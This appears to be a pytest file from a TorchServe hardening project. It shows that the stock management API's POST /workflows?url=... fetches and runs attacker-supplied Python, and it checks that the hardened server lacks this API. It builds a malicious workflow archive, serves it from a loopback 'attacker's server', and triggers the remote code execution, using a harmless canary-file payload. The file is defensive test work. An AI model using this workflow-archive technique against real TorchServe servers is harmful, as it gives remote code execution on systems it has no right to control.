"""A workflow: an archive that TorchServe fetches from wherever a request says, to run the Python in it.

`POST /workflows?url=...` on the management socket is remote code execution in the last release of TorchServe, with
registering models switched off, too; there is no setting against it. The gateway lets nobody there. Here the gateway
is out of the way: whoever reaches the sockets finds a server without that API, in whose jar there is neither the code
that fetches a workflow nor the code that starts one.
"""

import contextlib
import http.server
import io
import json
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from attacks.catalogue import sample_digit
from attacks.stock import StockServer
from garrison.torchserve.server import find_server
from garrison.unix_http import send_request
from stack.running import RunningStack

WAIT_S = 60
SPECIFICATION = """\
models: {min-workers: 1, max-workers: 1, batch-size: 1, max-batch-delay: 10}
dag: {first: [second]}
"""
HANDLER = """\
from pathlib import Path

Path(CANARY).write_text("the attacker's code ran")


def first(data, context):
    return data


def second(data, context):
    return data
"""


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A file that exists once the attacker's code ran."""
    return tmp_path / "canary"


@contextlib.contextmanager
def attackers_server(archive: bytes) -> Iterator[tuple[str, list[str]]]:
    """Serve an archive on the loopback interface; give its address, and the paths that were asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("content-length", str(len(archive)))
            self.end_headers()
            self.wfile.write(archive)

        def log_message(self, *_: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/workflow.war", asked
        finally:
            server.shutdown()
            thread.join()


def make_workflow(canary: Path) -> bytes:
    """Return a workflow archive, as torch-workflow-archiver writes it, whose functions are the attacker's."""
    workflow = {"workflowName": "evil", "specFile": "spec.yaml", "handler": "handler.py"}
    manifest = {"createdOn": "01/09/2024 00:00:00", "archiverVersion": "0.2.15", "workflow": workflow}
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("WAR-INF/MANIFEST.json", json.dumps(manifest))
        file.writestr("spec.yaml", SPECIFICATION)
        file.writestr("handler.py", HANDLER.replace("CANARY", repr(str(canary))))
    return archive.getvalue()


def test_in_stock_a_request_runs_the_attacker_s_code(stock: StockServer, canary: Path) -> None:
    with attackers_server(make_workflow(canary)) as (address, asked):
        answer = stock.ask("management", "POST", f"/workflows?url={address}")
    assert (answer.status, asked) == (200, ["/workflow.war"]), answer.body
    deadline = time.monotonic() + WAIT_S
    while not canary.exists() and time.monotonic() < deadline:
        time.sleep(0.2)
    assert canary.exists(), answer.body
    assert stock.manage("DELETE", "/workflows/evil").status == 200  # other tests use this server, too


@pytest.mark.parametrize("socket", ["management", "inference", "metrics"])
@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/workflows?url={}"),
        ("POST", "/workflows?url={}&workflow_name=evil"),
        ("GET", "/workflows"),
        ("GET", "/workflows/evil"),
        ("DELETE", "/workflows/evil"),
        ("POST", "/wfpredict/evil"),
    ],
    ids=lambda part: part,
)
def test_without_the_gateway_there_is_no_such_api(
    running: RunningStack, canary: Path, socket: str, method: str, path: str
) -> None:
    with attackers_server(make_workflow(canary)) as (address, asked):
        answer = send_request(running.run_directory / f"{socket}.sock", method, path.format(address), 30)
    assert (answer.status, json.loads(answer.body)["type"]) == (404, "ResourceNotFoundException")
    assert asked == []
    assert not canary.exists()


def test_the_server_goes_on_answering(running: RunningStack) -> None:
    assert running.target.send(body=sample_digit()).status == 200


def test_the_code_is_not_there() -> None:
    names = zipfile.ZipFile(find_server().class_path[0]).namelist()
    left = [name for name in names if "workflow" in name.lower() or "/ensemble/" in name]
    assert [Path(name).stem for name in left] == [  # what a signature mentions
        "InvalidWorkflowException", "WorkflowException", "WorkflowNotFoundException",
    ]  # fmt: skip
